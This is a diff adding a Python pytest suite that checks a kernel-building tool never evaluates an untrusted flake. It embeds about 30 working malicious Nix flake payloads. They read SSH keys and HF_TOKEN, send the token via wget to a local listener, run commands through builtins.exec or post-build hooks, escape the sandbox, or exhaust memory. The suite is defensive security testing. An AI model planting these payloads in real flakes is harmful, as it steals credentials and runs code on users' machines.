@@ -1,0 +1,475 @@
+"""A stranger's kernel is data: whatever its flake would do, no command evaluates it.
+
+Each attack runs twice: through the commands for kernels of others, where nothing may happen, and
+through Nix itself, where it has to do its harm: an attack that does none would prove nothing.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import subprocess
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+from typing import Any
+
+import pytest
+
+from tests.build.one_step import BUSYBOX
+from tests.cli.command_line import Cli, Ran
+from tests.evaluation import SYSTEM
+from tests.hub.built import write_variant
+from tests.tiny_kernel import NOARCH, TinyKernel, commit_all
+from tests.trust.strangers import CANARY, MODULE, UNTRUSTED
+
+EVALUATED = "the-flake-was-evaluated"
+# Status and words of each command for the kernel without its flake.
+EXPECTED = {
+    "list-variants": (0, "torch-cpu\n"),
+    "check-config": (0, "build.toml is right"),
+    "build --dry-run": (0, "torch-cpu"),
+    "verify": (1, "its commit gives no variant of this name"),
+}
+NAMES = {each: each if each == "verify" else f"{each} --untrusted" for each in EXPECTED}
+# A variant that no commit gives, so that nothing has to be built to compare it.
+MADE_UP = "torch11-cxx11-cpu-x86_64-linux"
+NIX = ("nix", "--extra-experimental-features", "nix-command flakes")
+LIMITED = ("bash", "-c", 'ulimit -v 4000000; exec timeout 60 "$@"', "bash")
+
+FLAKE = """{
+  @head@
+  outputs = inputs: let
+    step = attributes: derivation ({
+      name = "harm-@salt@"; system = "@system@"; builder = "/bin/sh";
+      args = [ "-c" "echo 1 > $out" ];
+    } // attributes);
+    # Its output is the answer of the listener.
+    fixed = {
+      outputHash = builtins.hashString "sha256" "hello";
+      outputHashAlgo = "sha256";
+      outputHashMode = "flat";
+    };
+    ask = {
+      busybox = @busybox@;
+      args = [ "-c"
+        "exec -a busybox $busybox wget -q -O $out http://127.0.0.1:@port@/$HF_TOKEN" ];
+    };
+    download = step (fixed // ask // { impureEnvVars = [ "HF_TOKEN" ]; });
+    harm = builtins.trace "@evaluated@" (@expression@);
+  in builtins.seq harm {
+    inherit harm;
+    variants = [ harm ];
+    manifest = harm;
+    manifestOf = _: harm;
+    legacyPackages.@system@ = { variants = [ harm ]; manifest = harm; manifestOf = _: harm; };
+  };
+}
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A flake, and the harm that it does if Nix evaluates it: see `Victim.find_harms`."""
+
+    what: str
+    harm: str
+    expression: str
+    head: str = ""
+    files: dict[str, str] = field(default_factory=dict)
+    lock: dict[str, Any] | None = None
+    # Options of Nix without which it would refuse the attack.
+    options: tuple[str, ...] = ()
+
+
+def lock_of(name: str, **locked: Any) -> dict[str, Any]:
+    """Return a lock with one input."""
+    node = {"locked": locked, "original": locked, "flake": name != "s"}
+    nodes = {"root": {"inputs": {name: name}}, name: node}
+    return {"version": 7, "root": "root", "nodes": nodes}
+
+
+def allow(address: str) -> dict[str, Any]:
+    """Return a lock without inputs whose root names an address."""
+    root = {"inputs": {}, "locked": {"type": "git", "url": address}}
+    return {"version": 7, "root": "root", "nodes": {"root": root}}
+
+
+READ_KEY = 'builtins.readFile "@secret@/id_rsa"'
+READ_INPUT = 'builtins.readFile (inputs.s + "/id_rsa")'
+OTHER_LIBRARY = f"{{ outputs = _: {{ lib.genKernelFlakeOutputs = _: {READ_KEY}; }}; }}"
+ATTACKS = (
+    Attack(
+        "outputs with variants, a manifest and a bundle of its own",
+        "evaluated",
+        '"torch213-cxx11-cpu-elsewhere"',
+    ),
+    # ---- reads the machine ----
+    Attack("`builtins.readFile` of a key", "read", READ_KEY),
+    Attack("`builtins.getEnv` of a token", "read", 'builtins.getEnv "HF_TOKEN"'),
+    Attack(
+        "`builtins.fetchGit` of the user's repository, `file:///` in the root of the lock",
+        "read",
+        'builtins.readFile ((builtins.fetchGit { url = "file://@secret@"; rev = "@commit@"; })'
+        '.outPath + "/id_rsa")',
+        lock=allow("file:///"),
+    ),
+    Attack(
+        "`builtins.fetchurl` of a file by its hash, `file:///` in the root of the lock",
+        "read",
+        "builtins.readFile (builtins.fetchurl "
+        '{ url = "file://@secret@/id_rsa"; sha256 = "@digest@"; })',
+        lock=allow("file:///"),
+    ),
+    Attack("`builtins.path` of a folder", "kept", 'builtins.path { path = /. + "@secret@"; }'),
+    Attack(
+        "`builtins.fetchTree` of a folder whose name has a quote",
+        "kept",
+        '(builtins.fetchTree { type = "path"; path = "@kernel@/it\'s/../../secret"; }).outPath',
+        files={"it's/file": ""},
+    ),
+    Attack(
+        "`builtins.getFlake` of a folder",
+        "read",
+        '(builtins.getFlake "path:@library@").lib.genKernelFlakeOutputs { }',
+    ),
+    Attack(
+        "`import ./default.nix`",
+        "read",
+        "import ./default.nix",
+        files=dict.fromkeys(("default.nix", "shell.nix", "build.nix", "kernel.nix"), READ_KEY),
+    ),
+    # ---- reads through its inputs ----
+    Attack(
+        "an input that is a folder, not locked",
+        "read",
+        READ_INPUT,
+        'inputs.s = { url = "path:@secret@"; flake = false; };',
+    ),
+    Attack(
+        "an input that is a folder, locked",
+        "read",
+        READ_INPUT,
+        'inputs.s = { url = "path:@secret@"; flake = false; };',
+        lock=lock_of("s", type="path", path="@secret@", narHash="@hash@"),
+    ),
+    Attack(
+        "an input that is a local repository, locked",
+        "read",
+        READ_INPUT,
+        'inputs.s = { url = "git+file://@secret@?rev=@commit@"; flake = false; };',
+        lock=lock_of("s", type="git", url="file://@secret@", rev="@commit@", narHash="@hash@"),
+    ),
+    Attack(
+        "an input that is an address of this machine",
+        "asked",
+        READ_INPUT,
+        'inputs.s = { url = "http://127.0.0.1:@port@/s.tar.gz"; flake = false; };',
+    ),
+    Attack(
+        "a kernel-builder that reads a key",
+        "read",
+        "inputs.kernel-builder.lib.genKernelFlakeOutputs { }",
+        'inputs.kernel-builder.url = "path:@library@";',
+    ),
+    Attack(
+        "a kernel-builder at an address of this machine, locked",
+        "asked",
+        "toString inputs.kernel-builder",
+        'inputs.kernel-builder.url = "http://127.0.0.1:@port@/builder.tar.gz";',
+        lock=lock_of(
+            "kernel-builder",
+            type="tarball",
+            url="http://127.0.0.1:@port@/builder.tar.gz",
+            narHash="@hash@",
+        ),
+    ),
+    # ---- sends ----
+    Attack(
+        "`builtins.fetchurl` of 127.0.0.1, `http://` in the root of the lock",
+        "asked",
+        'builtins.readFile (builtins.fetchurl "http://127.0.0.1:@port@/asked")',
+        lock=allow("http://"),
+    ),
+    Attack(
+        "a download step with a builder of its own and `impureEnvVars`",
+        "asked",
+        "builtins.readFile download.outPath",
+    ),
+    Attack(
+        "a source that has such a step as its input",
+        "asked",
+        """builtins.readFile (step (fixed // {
+          builder = "builtin:fetchurl"; url = "https://127.0.0.1:1/x"; sourceKind = "wheel";
+          project = "tiny"; version = "1.0"; file = "tiny-1.0-py3-none-any.whl"; input = download;
+        })).outPath""",
+    ),
+    Attack(
+        "a download of http://127.0.0.1 that `__json` hides",
+        "asked",
+        """builtins.readFile (step (fixed // {
+          builder = "builtin:fetchurl"; url = "http://127.0.0.1:@port@/json";
+          __json = ''{"url":"https://example.invalid/"}'';
+        })).outPath""",
+    ),
+    # ---- runs ----
+    Attack(
+        "`builtins.exec`",
+        "run",
+        'toString (builtins.exec [ "/bin/sh" "-c" "echo > @proof@; echo 1" ])',
+        options=("allow-unsafe-native-code-during-evaluation", "true"),
+    ),
+    Attack("import from a derivation", "kept", "toString (import (step { }).outPath)"),
+    Attack(
+        "`nixConfig` with a post-build-hook and sandbox = false",
+        "run",
+        "toString (import (step { }).outPath)",
+        'nixConfig = { post-build-hook = "@hook@"; sandbox = false; };',
+        options=("accept-flake-config", "true"),
+    ),
+    Attack(
+        "a step with `__noChroot`",
+        "asked",
+        """builtins.readFile (step (ask // {
+          __noChroot = true;
+          args = [ "-c" "/bin/cp $busybox wget; ./wget -q -O $out http://127.0.0.1:@port@" ];
+        })).outPath""",
+        options=("sandbox", "relaxed"),
+    ),
+    Attack(
+        "`nixConfig` with substituters",
+        "asked",
+        "toString (import (step { }).outPath)",
+        'nixConfig.substituters = "http://127.0.0.1:@port@";',
+        options=("accept-flake-config", "true"),
+    ),
+    Attack("a step with `__impure`", "evaluated", "(step { __impure = true; }).drvPath"),
+    Attack(
+        "a step with `recursive-nix`",
+        "kept",
+        '(step { requiredSystemFeatures = [ "recursive-nix" ]; }).drvPath',
+    ),
+    # ---- uses up the machine ----
+    Attack("endless recursion", "evaluated", "let x = x; in x"),
+    Attack("recursion without a bottom", "evaluated", "let f = x: f (x + 1) + 1; in f 1"),
+    Attack("a list of 16 GB", "evaluated", "builtins.length (builtins.genList (n: n) 2000000000)"),
+    Attack(
+        "a name of 64 MB",
+        "evaluated",
+        'builtins.foldl\' (text: _: text + text) "x" (builtins.genList (n: n) 26)',
+    ),
+)
+
+
+class Listener(ThreadingHTTPServer):
+    """A server of this machine, which notes who asks it."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Answer)
+        self.asked: list[str] = []
+        Thread(target=self.serve_forever, daemon=True).start()
+
+
+class _Answer(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        assert isinstance(self.server, Listener)
+        self.server.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Length", "5")
+        self.end_headers()
+        self.wfile.write(b"hello")
+
+    do_HEAD = do_GET  # noqa: N815
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+def run(*argv: str, cwd: Path | None = None, **variables: str) -> Ran:
+    environment = {**os.environ, **variables}
+    done = subprocess.run(argv, cwd=cwd, env=environment, capture_output=True, check=False)
+    said = (text.decode(errors="replace") for text in (done.stdout, done.stderr))
+    return Ran(done.returncode, *said)
+
+
+class Victim:
+    """A user with a key in a repository, a token, a server, and the kernel of a stranger."""
+
+    def __init__(self, folder: Path, listener: Listener) -> None:
+        self.folder, self.listener = folder, listener
+        files = {"build.toml": NOARCH, "torch-ext/tiny/__init__.py": MODULE}
+        self.kernel = TinyKernel(folder / "kernel", files).folder
+        self.secret, self.proof = folder / "secret", folder / "proof"
+        # The store has one copy of equal content.
+        salt = hashlib.sha256(str(folder).encode()).hexdigest()[:16]
+        self.secret.mkdir()
+        (self.secret / "id_rsa").write_text(f"{CANARY} {salt}\n")
+        commit_all(self.secret)
+        hook = folder / "hook"
+        hook.write_text(f"#!/bin/sh\necho > {self.proof}\n")
+        hook.chmod(0o755)
+        add = (*NIX, "store", "add-path", "--dry-run", "--name")
+        self.copies = [self._ask(*add, name, ".") for name in ("source", "secret")]
+        self.steps = f"*-harm-{salt}*"
+        self.facts = {
+            "system": SYSTEM,
+            "salt": salt,
+            "evaluated": EVALUATED,
+            "busybox": str(BUSYBOX),
+            "kernel": str(self.kernel),
+            "secret": str(self.secret),
+            "library": str(folder / "library"),
+            "proof": str(self.proof),
+            "hook": str(hook),
+            "port": str(listener.server_port),
+            "commit": self._ask("git", "rev-parse", "HEAD"),
+            "digest": self._ask("sha256sum", "id_rsa")[:64],
+            "hash": self._ask(*NIX, "hash", "path", "."),
+        }
+        self.write(folder / "library" / "flake.nix", OTHER_LIBRARY)
+
+    def _ask(self, *argv: str) -> str:
+        return run(*argv, cwd=self.secret).stdout.strip()
+
+    def write(self, file: Path, text: str) -> None:
+        """Write a file with the facts that its author knows of the victim."""
+        for name, value in self.facts.items():
+            text = text.replace(f"@{name}@", value)
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+
+    def meet(self, attack: Attack) -> None:
+        """Write the files of an attack into the kernel."""
+        flake = FLAKE.replace("@head@", attack.head).replace("@expression@", attack.expression)
+        lock = {"flake.lock": json.dumps(attack.lock)} if attack.lock else {}
+        for name, text in {"flake.nix": flake, **attack.files, **lock}.items():
+            self.write(self.kernel / name, text)
+
+    def list_kept(self) -> list[str]:
+        """Return the paths of the store that the attack has made."""
+        made = [str(path) for path in Path("/nix/store").glob(self.steps)]
+        return [*made, *(path for path in self.copies if Path(path).exists())]
+
+    def find_harms(self, ran: Ran) -> set[str]:
+        """Return which harm a command has done."""
+        said = ran.stdout + ran.stderr
+        harms = {
+            "evaluated": EVALUATED in said,
+            "read": CANARY in said,
+            "asked": bool(self.listener.asked),
+            "run": self.proof.exists(),
+            "kept": bool(self.list_kept()),
+        }
+        return {name for name, is_done in harms.items() if is_done}
+
+    def call(self, command: str) -> Ran:
+        """Run a command on the stranger's kernel; nothing may be written into its folder."""
+        cli = Cli(self.folder, {"HF_TOKEN": CANARY}, before=LIMITED)
+        if command == "verify":
+            words = ["verify", str(self._publish()), "--source", str(self.kernel), UNTRUSTED[1]]
+        else:
+            name, *options = command.split()
+            words = [name, str(self.kernel), *UNTRUSTED, *options]
+        before = sorted(self.kernel.rglob("*"))
+        done = cli(*words)
+        assert sorted(self.kernel.rglob("*")) == before
+        return done
+
+    def _publish(self) -> Path:
+        """Commit the kernel, and return a variant that claims to come from this commit."""
+        commit_all(self.kernel)
+        commit = run("git", "rev-parse", "HEAD", cwd=self.kernel).stdout.strip()
+        place = self.folder / "published" / MADE_UP
+        write_variant(place, provenance={"kernel": {"commit": commit, "dirty": False}})
+        return place.parent
+
+    def evaluate(self, attack: Attack) -> Ran:
+        """Evaluate the flake as one that is trusted in everything."""
+        options = ("--option", *attack.options) if attack.options else ()
+        words = ("eval", "--impure", "--no-write-lock-file", "--json", *options)
+        argv = (*LIMITED, *NIX, *words, f"path:{self.kernel}#harm")
+        return run(*argv, HF_TOKEN=CANARY, XDG_CACHE_HOME=str(self.folder / "cache"))
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Iterator[Victim]:
+    with Listener() as listener:
+        made = Victim(tmp_path, listener)
+        try:
+            yield made
+        finally:
+            listener.shutdown()
+            # Outputs go before the derivations that they are from.
+            while made.list_kept() and run("nix-store", "--delete", *made.list_kept()).status == 0:
+                pass
+
+
+# The first one through all commands, each of the others through one, in turns.
+TRIALS = [(ATTACKS[0], command) for command in EXPECTED] + [
+    (attack, [*EXPECTED][number % len(EXPECTED)]) for number, attack in enumerate(ATTACKS[1:])
+]
+
+
+@pytest.mark.parametrize(
+    ("attack", "command"),
+    [
+        pytest.param(
+            attack,
+            command,
+            id=f"{command}-{attack.what}",
+            marks=pytest.mark.attack(
+                f"{command} of a kernel that is not yours", attack.what, "not evaluated"
+            ),
+        )
+        for attack, command in TRIALS
+    ],
+)
+def test_no_flake_is_evaluated(victim: Victim, attack: Attack, command: str) -> None:
+    victim.meet(attack)
+    done = victim.call(command)
+    assert victim.find_harms(done) == set(), done
+    status, said = EXPECTED[command]
+    assert (done.status, said in done.stdout) == (status, True), done
+    # Nix lets only users that it trusts open the sandbox.
+    harm = attack.harm if os.geteuid() == 0 else "evaluated"
+    assert harm in victim.find_harms(victim.evaluate(attack))
+
+
+@pytest.mark.attack("list-variants --untrusted", "the flake of a folder above", "not evaluated")
+def test_no_flake_above_is_evaluated(victim: Victim) -> None:
+    victim.write(
+        victim.folder / "flake.nix", FLAKE.replace("@head@", "").replace("@expression@", "1")
+    )
+    (victim.folder / ".git").mkdir()
+    done = victim.call("list-variants")
+    assert (done.status, done.stdout, victim.find_harms(done)) == (0, "torch-cpu\n", set())
+
+
+@pytest.mark.attack(
+    "check-config --untrusted", "flake.nix or flake.lock is a pipe, a device, a folder", "not read"
+)
+@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
+@pytest.mark.parametrize("name", ["flake.nix", "flake.lock"])
+def test_a_flake_that_is_no_file(victim: Victim, name: str, kind: str) -> None:
+    file = victim.kernel / name
+    if kind == "device":
+        file.symlink_to("/dev/zero")
+    else:
+        (os.mkfifo if kind == "pipe" else os.mkdir)(file)
+    done = victim.call("check-config")
+    assert (done.status, victim.find_harms(done)) == (0, set()), done
+    assert f"{name} is not read: it is not a text file of at most" in done.stderr
+
+
+@pytest.mark.attack("build --untrusted", "a flake with a bundle of its own", "our own bundle")
+def test_what_is_built_is_ours(victim: Victim) -> None:
+    victim.meet(ATTACKS[0])
+    done = victim.call("build")
+    assert (done.status, victim.find_harms(done)) == (0, set()), done
+    module = Path(done.stdout.splitlines()[-1]) / "torch-cpu" / "__init__.py"
+    assert module.read_text() == MODULE
